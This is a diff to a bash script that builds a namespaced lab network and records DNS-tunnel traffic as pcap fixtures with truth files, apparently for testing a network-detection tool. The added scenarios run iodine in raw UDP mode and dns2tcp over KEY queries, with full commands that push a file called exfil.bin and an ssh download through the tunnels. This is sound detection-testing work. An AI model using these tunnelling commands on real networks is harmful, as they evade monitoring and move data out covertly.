@@ -1,7 +1,7 @@
 #!/usr/bin/env bash
 # make-lab-captures.sh — build a small lab network from Linux network
 # namespaces, run real tools in it (nmap, hping3, iodine, ptunnel-ng, dnsmasq,
-# python http.server, sshd, nc), capture each scenario with tcpdump on the lab
+# dns2tcp, python http.server, sshd, nc), capture each scenario with tcpdump on the lab
 # bridge, and write fixtures/lab/<scenario>.pcap plus <scenario>.truth.json.
 #
 # Run (as root; it apt-get installs what is missing):
@@ -11,7 +11,7 @@
 #   FLOWHOUND_LAB_OUT=/tmp/x sudo -E bash scripts/lab/make-lab-captures.sh ...
 #
 # Scenarios: benign-1 benign-2 benign-3 benign-4 scan-vertical scan-fragmented scan-horizontal
-#            rate-spike rate-control dns-tunnel-iodine icmp-tunnel-ptunnel
+#            rate-spike rate-control dns-tunnel-iodine dns-tunnel-iodine-raw dns-tunnel-dns2tcp-key icmp-tunnel-ptunnel
 #            scan-stealth scan-distributed scan-arp policy-2012 midstream
 #            beacon (20 minutes of real time)
 #            rate-spike-icmp-flood rate-spike-icmp-flood-noreply benign-fast-ping icmp-tunnel-icmptx
@@ -41,7 +41,7 @@ PY=/usr/bin/python3
 P=${FLOWHOUND_LAB_PREFIX:-fhlab}   # namespace prefix (another prefix lets a long scenario run beside a short one)
 NET=10.77.0
 SNAPLEN=${FLOWHOUND_LAB_SNAPLEN:-256}
-ALL_SCENARIOS=(bulk-upload new-listener dns-volume beacon scan-stealth scan-distributed scan-arp policy-2012 midstream scan-vertical scan-fragmented scan-horizontal rate-spike rate-control benign-1 benign-2 benign-3 benign-4 dns-tunnel-iodine icmp-tunnel-ptunnel rate-spike-icmp-flood rate-spike-icmp-flood-noreply benign-fast-ping icmp-tunnel-icmptx)
+ALL_SCENARIOS=(bulk-upload new-listener dns-volume beacon scan-stealth scan-distributed scan-arp policy-2012 midstream scan-vertical scan-fragmented scan-horizontal rate-spike rate-control benign-1 benign-2 benign-3 benign-4 dns-tunnel-iodine dns-tunnel-iodine-raw dns-tunnel-dns2tcp-key icmp-tunnel-ptunnel rate-spike-icmp-flood rate-spike-icmp-flood-noreply benign-fast-ping icmp-tunnel-icmptx)
 RULE_KINDS='["scan.vertical","scan.horizontal","tunnel.dns","tunnel.icmp","rate.spike"]'
 
 log() { printf '[lab %s] %s\n' "$(date -u +%H:%M:%S)" "$*" >&2; }
@@ -56,7 +56,7 @@ need_packages() {
   local -A pkg=([nmap]=nmap [hping3]=hping3 [iodine]=iodine [iodined]=iodine [ptunnel-ng]=ptunnel-ng
     [tcpdump]=tcpdump [tshark]=tshark [capinfos]=wireshark-common [dnsmasq]=dnsmasq-base [sshd]=openssh-server
     [ssh]=openssh-client [nc]=netcat-openbsd [dig]=bind9-dnsutils [jq]=jq [ping]=iputils-ping [ip]=iproute2
-    [arp-scan]=arp-scan [ethtool]=ethtool)
+    [arp-scan]=arp-scan [ethtool]=ethtool [dns2tcpc]=dns2tcp [dns2tcpd]=dns2tcp)
   for c in "${!pkg[@]}"; do command -v "$c" >/dev/null 2>&1 || [[ -x /usr/sbin/$c ]] || missing+=("${pkg[$c]}"); done
   [[ -x $PY ]] || missing+=(python3)
   if ((${#missing[@]})); then
@@ -392,6 +392,90 @@ scenario_dns_tunnel() {
     '["scan.vertical","scan.horizontal","tunnel.icmp"]' \
     '[{"name":"tunnelQueries","filter":"dns.flags.response==0 && dns.qry.name contains \"t.lab.example\""},{"name":"tunnelQueriesFromClient","filter":"ip.src==10.77.0.10 && dns.flags.response==0 && dns.qry.name contains \"t.lab.example\""},{"name":"uniqueTunnelNamesFromClient","filter":"ip.src==10.77.0.10 && dns.flags.response==0 && dns.qry.name contains \"t.lab.example\"","distinct":"dns.qry.name"},{"name":"nullQueries","filter":"dns.flags.response==0 && dns.qry.type==10"},{"name":"benignQueries","filter":"dns.flags.response==0 && !(dns.qry.name contains \"t.lab.example\")"},{"name":"ipFragments","filter":"ip.flags.mf==1 || ip.frag_offset>0"}]' \
     "rate.spike is not listed in expectNone: the tunnel's query rate to 10.77.0.53:53 may exceed 20 pps for several seconds (see verified.rateRunsOver20pps); whether that is a spike is the detector's call."
+}
+
+scenario_dns_tunnel_iodine_raw() { # iodine's default mode: a handshake through the resolver, then raw UDP to iodined's port 53
+  local name=dns-tunnel-iodine-raw
+  [[ -c /dev/net/tun ]] || { modprobe tun 2>/dev/null || true; mkdir -p /dev/net; [[ -c /dev/net/tun ]] || mknod /dev/net/tun c 10 200; }
+  "$PY" "$HELPER" mkfile "$WORK/exfil.bin" 60000 99
+  local srv=(iodined -f -c -l "$NET.70" -P labsecret 192.168.99.1 t.lab.example)
+  spawn tun timeout 100 "${srv[@]}"
+  local SRV_PID=${PIDS[-1]}
+  for _ in $(seq 30); do nsx tun ip -4 addr show dns0 2>/dev/null | grep -q 192.168.99.1 && break; sleep 0.3; done
+  spawn tun timeout 100 sh -c "nc -l 192.168.99.1 5001 > $WORK/exfil.received"
+  local NC_PID=${PIDS[-1]}
+  sleep 1
+  nsx tun ss -ltn | grep -q '192.168.99.1:5001 ' || { cat "$WORK/tun.log" >&2; die "iodined/nc listener not up"; }
+  capture_start "$name" 1600
+  CMDS+=("ip netns exec $P-tun ${srv[*]}" "ip netns exec $P-tun nc -l 192.168.99.1 5001 > exfil.received")
+  benign_bg 63 50 --page-loads 1 --min-pause 2 --max-pause 6
+  sleep 3
+  local cli=(iodine -f -P labsecret "$NET.53" t.lab.example)
+  : >"$WORK/c1.log"
+  rec c1 "${cli[@]}"
+  spawn c1 timeout 60 "${cli[@]}"
+  local IOD_PID=${PIDS[-1]}
+  for _ in $(seq 40); do grep -q 'Connection setup complete' "$WORK/c1.log" 2>/dev/null && break; sleep 1; done
+  grep -q 'Connection setup complete' "$WORK/c1.log" || { tail -n 20 "$WORK/c1.log" >&2; die "iodine tunnel did not come up"; }
+  grep -q 'raw UDP' "$WORK/c1.log" || log "WARNING: iodine did not report raw UDP mode: $(grep -i raw "$WORK/c1.log" | tail -n 3)"
+  rec c1 "nc -N -w 10 192.168.99.1 5001 < exfil.bin   # 60000 bytes, seeded random, once iodine says 'Connection setup complete'"
+  nsx c1 timeout 45 nc -N -w 10 192.168.99.1 5001 <"$WORK/exfil.bin" || log "nc over iodine exit $?"
+  sleep 2
+  kill "$IOD_PID" 2>/dev/null || true
+  wait_benign
+  capture_stop "$name"
+  log "iodine received $(stat -c %s "$WORK/exfil.received" 2>/dev/null || echo 0) of 60000 bytes"
+  grep -iE 'raw|codec|fragsize|switch' "$WORK/c1.log" | tail -n 8 >&2 || true
+  kill "$SRV_PID" "$NC_PID" 2>/dev/null || true
+  wait "$SRV_PID" 2>/dev/null || true
+  write_truth "$name" "iodine 0.7.0 in its default mode (no -r): client 10.77.0.10 makes its handshake queries through the resolver dnsmasq 10.77.0.53 (forwarded to iodined 10.77.0.70, authoritative for t.lab.example), finds iodined answering directly and then sends everything as raw UDP to 10.77.0.70:53 (iodine's raw packets: magic bytes 10 d1 9e, not DNS), carrying a 60000-byte nc upload through the tunnel; plus benign background from both clients. The tunnel's data is non-DNS traffic on the DNS port (Suricata/ET 'Non-DNS or Non-Compliant DNS traffic on DNS port')." \
+    "iodine 0.7.0 -f -P *** 10.77.0.53 t.lab.example; iodined -f -c -l 10.77.0.70 -P *** 192.168.99.1 t.lab.example" \
+    '[{"kind":"tunnel.dns","src":"10.77.0.10","dst":"10.77.0.70","port":53,"leg":"raw UDP from the client to iodined port 53 (non-DNS on port 53)"}]' \
+    '["scan.vertical","scan.horizontal","tunnel.icmp"]' \
+    '[{"name":"rawUdpToIodined","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.70 && udp.dstport==53"},{"name":"rawUdpFromIodined","filter":"ip.src==10.77.0.70 && ip.dst==10.77.0.10 && udp.srcport==53"},{"name":"iodineMagicFromClient","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.70 && udp.payload[0:3]==10:d1:9e"},{"name":"handshakeQueriesViaResolver","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.53 && dns.flags.response==0 && dns.qry.name contains \"t.lab.example\""},{"name":"benignQueries","filter":"dns.flags.response==0 && !(dns.qry.name contains \"t.lab.example\")"}]' \
+    "The handshake through the resolver is a handful of queries (4 in the committed capture: too few for the name signals); the raw UDP to 10.77.0.70:53 does not parse as DNS, which is what is reported (evidence.basis non-dns-on-port-53). Its first packet parses as a DNS 'response' (QR set, opcode 3) from the client, so a reader that flips roles on any parse sees 10.77.0.70:53 as the originator; the finding must name the client. rate.spike is not asserted either way."
+}
+
+scenario_dns_tunnel_dns2tcp_key() { # dns2tcp with KEY queries through the resolver, an ssh download through it
+  local name=dns-tunnel-dns2tcp-key
+  mkdir -p "$WORK/d2t"
+  cat >"$WORK/d2t/dns2tcpd.conf" <<E2
+listen = $NET.70
+port = 53
+user = root
+chroot = /tmp
+domain = t.lab.example
+resources = ssh:$NET.30:22
+E2
+  local srv=(dns2tcpd -F -d 1 -f "$WORK/d2t/dns2tcpd.conf")
+  spawn tun timeout 100 "${srv[@]}"
+  local SRV_PID=${PIDS[-1]}
+  sleep 1
+  "$PY" "$HELPER" mkfile "$WORK/d2t-down.bin" 60000 55
+  capture_start "$name" 1600
+  CMDS+=("ip netns exec $P-tun ${srv[*]}   # listen $NET.70:53 domain t.lab.example resources ssh:$NET.30:22")
+  benign_bg 65 50 --page-loads 1 --min-pause 2 --max-pause 6
+  sleep 3
+  local cli=(dns2tcpc -z t.lab.example -r ssh -l 2222 -T KEY -d 1 "$NET.53")
+  rec c1 "${cli[@]}"
+  spawn c1 timeout 60 "${cli[@]}"
+  local C_PID=${PIDS[-1]}
+  sleep 2
+  rec c1 "ssh -p 2222 -i id_lab root@127.0.0.1 'cat d2t-down.bin' > received   # 60000 bytes, seeded random, down through dns2tcp"
+  nsx c1 timeout 45 ssh -p 2222 -i "$WORK/id_lab" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=15 \
+    root@127.0.0.1 "cat $WORK/d2t-down.bin" >"$WORK/d2t.recv" 2>"$WORK/d2t.err" || log "ssh over dns2tcp exit $?: $(tail -n 2 "$WORK/d2t.err")"
+  log "dns2tcp received $(stat -c %s "$WORK/d2t.recv") of 60000 bytes"
+  kill "$C_PID" 2>/dev/null || true
+  wait_benign
+  capture_stop "$name"
+  kill "$SRV_PID" 2>/dev/null || true
+  wait "$SRV_PID" 2>/dev/null || true
+  write_truth "$name" "dns2tcp 0.5.2 with KEY (25) queries (-T KEY): client 10.77.0.10 -> resolver dnsmasq 10.77.0.53 -> dns2tcpd 10.77.0.70 (authoritative for t.lab.example, resource ssh:10.77.0.30:22); an ssh session through it downloads 60000 bytes (dns2tcp polls with short names and carries the download in the answers); plus benign background from both clients. The bridge sees both legs: client->resolver and resolver->dns2tcpd." \
+    "dns2tcpc 0.5.2 -z t.lab.example -r ssh -l 2222 -T KEY -d 1 10.77.0.53; dns2tcpd -F -d 1 (listen 10.77.0.70:53)" \
+    '[{"kind":"tunnel.dns","src":"10.77.0.10","dst":"10.77.0.53","port":53,"domain":"t.lab.example","leg":"client to resolver"}]' \
+    '["scan.vertical","scan.horizontal","tunnel.icmp"]' \
+    '[{"name":"keyQueries","filter":"dns.flags.response==0 && dns.qry.type==25"},{"name":"keyQueriesFromClient","filter":"ip.src==10.77.0.10 && dns.flags.response==0 && dns.qry.type==25"},{"name":"uniqueTunnelNamesFromClient","filter":"ip.src==10.77.0.10 && dns.flags.response==0 && dns.qry.name contains \"t.lab.example\"","distinct":"dns.qry.name"},{"name":"benignQueries","filter":"dns.flags.response==0 && !(dns.qry.name contains \"t.lab.example\")"}]' \
+    "The forwarded leg 10.77.0.53 -> 10.77.0.70 carries the same queries and is expected to be reported too, but it is not asserted. rate.spike is not asserted either way."
 }
 
 scenario_icmp_tunnel() {
@@ -753,6 +837,8 @@ run_scenario() {
     rate-spike) scenario_rate_spike ;;
     rate-control) scenario_rate_control ;;
     dns-tunnel-iodine) scenario_dns_tunnel ;;
+    dns-tunnel-iodine-raw) scenario_dns_tunnel_iodine_raw ;;
+    dns-tunnel-dns2tcp-key) scenario_dns_tunnel_dns2tcp_key ;;
     icmp-tunnel-ptunnel) scenario_icmp_tunnel ;;
     *) die "unknown scenario $1 (try --list)" ;;
   esac
